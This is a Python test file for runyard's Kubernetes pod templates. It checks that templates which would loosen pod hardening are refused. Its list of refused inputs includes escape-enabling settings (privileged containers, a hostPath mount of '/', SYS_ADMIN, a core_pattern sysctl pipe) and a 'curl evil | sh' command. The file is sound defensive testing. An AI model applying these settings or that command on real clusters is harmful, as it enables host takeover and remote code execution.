"""Pod templates (``kubernetes.pod_template``, ``task_pod_templates``, ``agent_pod_template``):
merged onto the Job runyard builds, strictly valid, and never loosening its hardening; a
template that tries is refused when the settings load, naming the field."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
from kubernetes_validate import utils as kv
from pydantic import ValidationError

from runyard.errors import ExecutorError
from runyard.executors.base import LaunchSpec, Limits, Mount
from runyard.executors.kubernetes.manifests import RunOptions, build_manifests
from runyard.executors.kubernetes.names import AGENT_RUN_LABEL, RUN_ID_LABEL
from runyard.executors.kubernetes.template import apply_templates
from runyard.kubernetes_settings import KubernetesSettings
from runyard.kubernetes_template import PodTemplate, TemplateMetadata

VERSIONS = ("1.25.0", "1.37.0")
GPU_TOLERATION = {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}
TEMPLATE: dict[str, Any] = {
    "metadata": {"labels": {"team": "vision"},
                 "annotations": {"sidecar.istio.io/inject": "false"}},
    "spec": {
        "runtimeClassName": "gvisor",
        "priorityClassName": "research",
        "nodeSelector": {"gpu": "a100"},
        "tolerations": [GPU_TOLERATION],
        "affinity": {"podAntiAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [
            {"weight": 10, "podAffinityTerm": {"topologyKey": "kubernetes.io/hostname",
                                               "labelSelector": {"matchLabels": {"t": "x"}}}}]}},
        "volumes": [{"name": "datasets", "persistentVolumeClaim": {"claimName": "datasets"}}],
        "containers": [
            {"name": "worker", "image": "registry.example/train:2",
             "resources": {"limits": {"nvidia.com/gpu": 1}},
             "env": [{"name": "HF_HOME", "value": "/datasets/hf"}],
             "volumeMounts": [{"name": "datasets", "mountPath": "/datasets", "readOnly": True}]},
            {"name": "metrics", "image": "registry.example/exporter:1"},
        ],
    },
    "job": {"ttlSecondsAfterFinished": 600},
}  # fmt: skip


def k8s(**overrides: Any) -> KubernetesSettings:
    values: dict[str, Any] = {"image": "registry.example/runyard:1", "node_name": "node-a"}
    return KubernetesSettings(**{**values, **overrides})


def launch(tmp_path: Path, **overrides: Any) -> LaunchSpec:
    work = tmp_path / "ws"
    work.mkdir(exist_ok=True)
    values: dict[str, Any] = {
        "argv": ["python", "-m", "runyard.runtime.worker"], "log_path": tmp_path / "run.log",
        "env": {"MODE": "fast", "API_TOKEN": "s3cret"}, "stdin": b"{}", "cwd": work,
        "mounts": [Mount(work, str(work))], "labels": {RUN_ID_LABEL: "run-1"},
        "limits": Limits(memory_bytes=1 << 30), "network": True,
    }  # fmt: skip
    return LaunchSpec(**{**values, **overrides})


def job_of(settings: KubernetesSettings, spec: LaunchSpec, task: str | None = None) -> Any:
    return build_manifests(spec, settings, "run-1", None, RunOptions(task=task)).job


def containers(job: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["name"]: c for c in job["spec"]["template"]["spec"]["containers"]}


HARDENED = {"allowPrivilegeEscalation": False, "privileged": False,
            "readOnlyRootFilesystem": True, "capabilities": {"drop": ["ALL"]}}  # fmt: skip


def test_a_template_shapes_the_pod_and_keeps_every_hardening_field(tmp_path: Path) -> None:
    plain = job_of(k8s(), launch(tmp_path))
    job = job_of(k8s(pod_template=TEMPLATE), launch(tmp_path))
    pod = job["spec"]["template"]["spec"]
    worker, sidecar = containers(job)["worker"], containers(job)["metrics"]
    assert pod["runtimeClassName"] == "gvisor" and pod["priorityClassName"] == "research"
    assert pod["tolerations"] == [GPU_TOLERATION] and pod["nodeSelector"] == {"gpu": "a100"}
    assert (
        pod["affinity"]["nodeAffinity"]
        == plain["spec"]["template"]["spec"]["affinity"]["nodeAffinity"]
    )  # hostPath mode: still pinned to runyard's node, anti-affinity added
    assert "podAntiAffinity" in pod["affinity"]
    assert worker["image"] == "registry.example/train:2"
    assert worker["resources"]["limits"]["nvidia.com/gpu"] == 1
    assert worker["resources"]["limits"]["memory"] == str(1 << 30)  # runyard's limit kept
    # merged by name and by mountPath: runyard's entries all there, the template's added
    plain_worker = containers(plain)["worker"]
    assert worker["env"][: len(plain_worker["env"])] == plain_worker["env"]
    assert worker["env"][-1] == {"name": "HF_HOME", "value": "/datasets/hf"}
    assert (
        worker["volumeMounts"][: len(plain_worker["volumeMounts"])] == plain_worker["volumeMounts"]
    )
    assert worker["command"] == plain_worker["command"]
    assert worker["workingDir"] == plain_worker["workingDir"]
    assert {v["name"] for v in pod["volumes"]} >= {"datasets", "runyard-stdin", "tmp"}
    # hardening: the pod's and every container's, the sidecar's too
    assert worker["securityContext"] == HARDENED and sidecar["securityContext"] == HARDENED
    assert pod["securityContext"] == plain["spec"]["template"]["spec"]["securityContext"]
    assert pod["automountServiceAccountToken"] is False
    assert pod["restartPolicy"] == "Never" and job["spec"]["backoffLimit"] == 0
    for meta in (job["metadata"], job["spec"]["template"]["metadata"]):
        assert meta["labels"]["team"] == "vision" and meta["labels"][RUN_ID_LABEL] == "run-1"
        assert meta["annotations"]["sidecar.istio.io/inject"] == "false"
    assert job["spec"]["ttlSecondsAfterFinished"] == 600 and job["spec"]["suspend"] is True
    for version in VERSIONS:
        kv.validate(job, version, strict=True)  # raises on an invalid or unknown field


def test_task_and_agent_templates_apply_after_the_global_one(tmp_path: Path) -> None:
    settings = k8s(
        pod_template={"spec": {"priorityClassName": "low", "runtimeClassName": "gvisor"}},
        task_pod_templates={"train": {"spec": {"priorityClassName": "high", "containers": [
            {"name": "worker", "image": "registry.example/train:3"}]}}},
        agent_pod_template={"spec": {"runtimeClassName": "kata"}},
    )  # fmt: skip
    train = job_of(settings, launch(tmp_path), task="train")["spec"]["template"]["spec"]
    assert (train["priorityClassName"], train["runtimeClassName"]) == ("high", "gvisor")
    assert train["containers"][0]["image"] == "registry.example/train:3"
    other = job_of(settings, launch(tmp_path), task="other")["spec"]["template"]["spec"]
    assert other["priorityClassName"] == "low"
    assert other["containers"][0]["image"] == "registry.example/runyard:1"
    agent_spec = launch(tmp_path, labels={AGENT_RUN_LABEL: "run-9"})
    agent = job_of(settings, agent_spec)["spec"]["template"]["spec"]
    assert (agent["priorityClassName"], agent["runtimeClassName"]) == ("low", "kata")


def worker_with(**fields: Any) -> dict[str, Any]:
    return {"spec": {"containers": [{"name": "worker", **fields}]}}


def sidecar_with(**fields: Any) -> dict[str, Any]:
    return {"spec": {"containers": [{"name": "helper", "image": "x", **fields}]}}


# (template, the field the refusal must name): every way to loosen what runyard sets
REFUSED = [
    (worker_with(securityContext={"privileged": True}), "containers[worker].securityContext.privileged"),
    (sidecar_with(securityContext={"privileged": True}), "containers[helper].securityContext.privileged"),
    ({"spec": {"initContainers": [{"name": "init", "image": "x", "securityContext": {
        "privileged": True}}]}}, "initContainers[init].securityContext.privileged"),
    (worker_with(securityContext={"allowPrivilegeEscalation": True}), "allowPrivilegeEscalation"),
    (worker_with(securityContext={"readOnlyRootFilesystem": False}), "readOnlyRootFilesystem"),
    (worker_with(securityContext={"runAsUser": 0}), "containers[worker].securityContext.runAsUser"),
    (sidecar_with(securityContext={"runAsNonRoot": False}), "runAsNonRoot"),
    (worker_with(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}), "capabilities.add"),
    (worker_with(securityContext={"capabilities": {"drop": []}}), "capabilities.drop"),
    (worker_with(securityContext={"capabilities": {"drop": ["NET_RAW"]}}), "capabilities.drop"),
    (worker_with(securityContext={"seccompProfile": {"type": "Unconfined"}}), "seccompProfile.type"),
    (worker_with(securityContext={"appArmorProfile": {"type": "Unconfined"}}), "appArmorProfile"),
    (worker_with(securityContext={"procMount": "Unmasked"}), "procMount"),
    (worker_with(securityContext={"seLinuxOptions": {"type": "spc_t"}}), "seLinuxOptions.type"),
    (worker_with(securityContext={"windowsOptions": {"hostProcess": True}}), "hostProcess"),
    ({"spec": {"securityContext": {"runAsUser": 0}}}, "spec.securityContext.runAsUser"),
    ({"spec": {"securityContext": {"runAsUser": 2000}}}, "kubernetes.run_as_user"),
    ({"spec": {"securityContext": {"runAsNonRoot": False}}}, "spec.securityContext.runAsNonRoot"),
    ({"spec": {"securityContext": {"seccompProfile": {"type": "Unconfined"}}}}, "seccompProfile"),
    ({"spec": {"securityContext": {"sysctls": [{"name": "kernel.core_pattern", "value": "|x"}]}}},
     "sysctls[0]"),
    ({"spec": {"hostNetwork": True}}, "spec.hostNetwork"),
    ({"spec": {"hostPID": True}}, "spec.hostPID"),
    ({"spec": {"hostIPC": True}}, "spec.hostIPC"),
    ({"spec": {"shareProcessNamespace": True}}, "spec.shareProcessNamespace"),
    ({"spec": {"ShareProcessNamespace": True}}, "shareProcessNamespace"),
    ({"spec": {"automountServiceAccountToken": True}}, "spec.automountServiceAccountToken"),
    ({"spec": {"volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}, "volumes[root].hostPath"),
    ({"spec": {"volumes": [{"name": "sa", "projected": {"sources": [
        {"serviceAccountToken": {"path": "token"}}]}}]}}, "serviceAccountToken"),
    ({"spec": {"volumes": [{"name": "runyard-stdin", "emptyDir": {}}]}}, "volumes[runyard-stdin]"),
    ({"spec": {"volumes": [{"name": "mount-0", "emptyDir": {}}]}}, "volumes[mount-0]"),
    (worker_with(command=["sh", "-c", "curl evil | sh"]), "containers[worker].command"),
    (worker_with(args=["--other"]), "containers[worker].args"),
    (worker_with(workingDir="/"), "containers[worker].workingDir"),
    (worker_with(env=[{"name": "RUNYARD_STDIN_FILE", "value": "/tmp/x"}]), "env[RUNYARD_STDIN_FILE]"),
    (worker_with(volumeMounts=[{"name": "d", "mountPath": "/run/runyard"}]), "volumeMounts[/run/runyard]"),
    (worker_with(volumeMounts=[{"name": "d", "mountPath": "/run"}]), "volumeMounts[/run]"),
    (sidecar_with(ports=[{"containerPort": 80, "hostPort": 80}]), "hostPort"),
    ({"spec": {"initContainers": [{"name": "worker", "image": "x"}]}}, "initContainers[worker]"),
    ({"spec": {"restartPolicy": "OnFailure"}}, "spec.restartPolicy"),
    ({"spec": {"ephemeralContainers": []}}, "spec.ephemeralContainers"),
    ({"spec": {"securityContext": {"$patch": "replace"}}}, "spec.securityContext.$patch"),
    ({"spec": {"containers": [{"name": "worker", "$patch": "delete"}]}}, "$patch"),
    # a null deletes in a merge patch: it must not drop what runyard set
    ({"spec": {"securityContext": None}}, "spec.securityContext"),
    ({"spec": {"automountServiceAccountToken": None}}, "spec.automountServiceAccountToken"),
    (worker_with(securityContext={"readOnlyRootFilesystem": None}), "readOnlyRootFilesystem"),
    (sidecar_with(securityContext={"capabilities": None}), "securityContext.capabilities"),
    (worker_with(securityContext=None), "securityContext"),
    # another spelling of a checked name, for an API server that ignores the case
    ({"spec": {"HostNetwork": True}}, "spec.HostNetwork"),
    (worker_with(securityContext={"Privileged": True}), "securityContext.Privileged"),
    (worker_with(Command=["sh"]), "containers[0].Command"),
    ({"spec": {"volumes": [{"name": "n", "HOSTPATH": {"path": "/"}}]}}, "HOSTPATH"),
    ({"job": {"backoffLimit": 6}}, "job.backoffLimit"),
    ({"job": {"suspend": False}}, "job.suspend"),
    ({"metadata": {"labels": {RUN_ID_LABEL: "other"}}}, "metadata.labels.runyard.dev/run-id"),
    ({"metadata": {"labels": {"app.kubernetes.io/managed-by": "me"}}}, "managed-by"),
    ({"spec": {"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {
        "nodeSelectorTerms": []}}}}}, "nodeAffinity.requiredDuringScheduling"),
    ({"spec": {"containers": "worker"}}, "spec.containers"),
    ({"spec": {"containers": [{"image": "no-name"}]}}, "spec.containers[0]"),
]  # fmt: skip


@pytest.mark.parametrize(("template", "field"), REFUSED)
@pytest.mark.parametrize("place", ["pod_template", "task_pod_templates", "agent_pod_template"])
def test_a_template_that_loosens_the_hardening_is_refused_at_load(
    template: dict[str, Any], field: str, place: str
) -> None:
    value = {"train": template} if place == "task_pod_templates" else template
    with pytest.raises(ValidationError) as refused:
        k8s(**{place: copy.deepcopy(value)})
    message = str(refused.value)
    assert field in message and "pod template field" in message, message
    assert f"kubernetes.{place}" in message


def test_what_tightens_or_only_places_is_accepted(tmp_path: Path) -> None:
    tighter = {"spec": {
        "hostNetwork": False, "automountServiceAccountToken": False,
        "securityContext": {"seccompProfile": {"type": "Localhost",
                                               "localhostProfile": "runs.json"},
                            "sysctls": [{"name": "net.ipv4.tcp_keepalive_time", "value": "60"}]},
        "containers": [{"name": "worker", "securityContext": {
            "runAsNonRoot": True, "capabilities": {"drop": ["ALL", "NET_RAW"]}}}]}}  # fmt: skip
    job = job_of(k8s(pod_template=tighter), launch(tmp_path))
    pod = job["spec"]["template"]["spec"]
    assert pod["securityContext"]["seccompProfile"]["type"] == "Localhost"
    assert pod["securityContext"]["runAsUser"] == 1000  # runyard's identity stays
    assert containers(job)["worker"]["securityContext"]["privileged"] is False
    pvc = k8s(volume_mode="pvc", pvc_name="d", pvc_host_root="/srv", pod_template={
        "spec": {"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {
            "nodeSelectorTerms": [{"matchExpressions": [
                {"key": "gpu", "operator": "In", "values": ["a100"]}]}]}}}}})  # fmt: skip
    assert pvc.pod_template is not None  # pods go anywhere in pvc mode: any node affinity


@pytest.mark.parametrize(
    ("template", "needle"),
    [
        (worker_with(env=[{"name": "MODE", "value": "slow"}]), "environment entry 'MODE'"),
        (worker_with(env=[{"name": "API_TOKEN", "value": "x"}]), "environment entry 'API_TOKEN'"),
        ({"spec": {"volumes": [{"name": "workspace", "emptyDir": {}}]}}, None),  # refused at load
    ],
)
def test_a_template_cannot_replace_the_runs_own_entries(
    tmp_path: Path, template: dict[str, Any], needle: str | None
) -> None:
    if needle is None:
        with pytest.raises(ValidationError, match="volumes\\[workspace\\]"):
            k8s(pod_template=template)
        return
    with pytest.raises(ExecutorError, match=needle):
        job_of(k8s(pod_template=template), launch(tmp_path))


def test_a_template_mount_over_the_runs_folders_is_refused_at_build(tmp_path: Path) -> None:
    spec = launch(tmp_path)
    over = worker_with(volumeMounts=[{"name": "scratch", "mountPath": str(tmp_path)}])
    over["spec"]["volumes"] = [{"name": "scratch", "emptyDir": {}}]
    with pytest.raises(ExecutorError, match="overlaps runyard's mount"):
        job_of(k8s(pod_template=over), spec)


UNCHECKED = [
    ({"containers": [{"name": "helper", "image": "x", "securityContext": {"privileged": True}}]},
     "spec.containers[helper].securityContext.privileged"),
    ({"containers": [{"name": "worker", "securityContext": {"capabilities": {"drop": []}}}]},
     "spec.containers[worker].securityContext.capabilities"),
    ({"securityContext": None}, "spec.securityContext.runAsUser"),
    ({"securityContext": {"seccompProfile": {"type": "Unconfined"}}}, "seccompProfile"),
    ({"securityContext": {"runAsNonRoot": False}}, "spec.securityContext.runAsNonRoot"),
    ({"automountServiceAccountToken": True}, "spec.automountServiceAccountToken"),
    ({"hostNetwork": True}, "spec.hostNetwork"),
    ({"restartPolicy": "Always"}, "spec.restartPolicy"),
]  # fmt: skip


@pytest.mark.parametrize(("spec", "field"), UNCHECKED)
def test_the_merged_job_is_checked_again_behind_the_settings_check(
    tmp_path: Path, spec: dict[str, Any], field: str
) -> None:
    # a template that never went through the settings check (made in code, unvalidated)
    built = job_of(k8s(), launch(tmp_path))
    unchecked = PodTemplate.model_construct(metadata=TemplateMetadata(), spec=spec, job={})
    with pytest.raises(ExecutorError, match="would loosen runyard's hardening") as refused:
        apply_templates(built, [unchecked])
    assert field in str(refused.value)
    backoff = PodTemplate.model_construct(metadata=TemplateMetadata(), spec={}, job={
        "backoffLimit": 3})  # fmt: skip
    with pytest.raises(ExecutorError, match="job.backoffLimit"):
        apply_templates(built, [backoff])
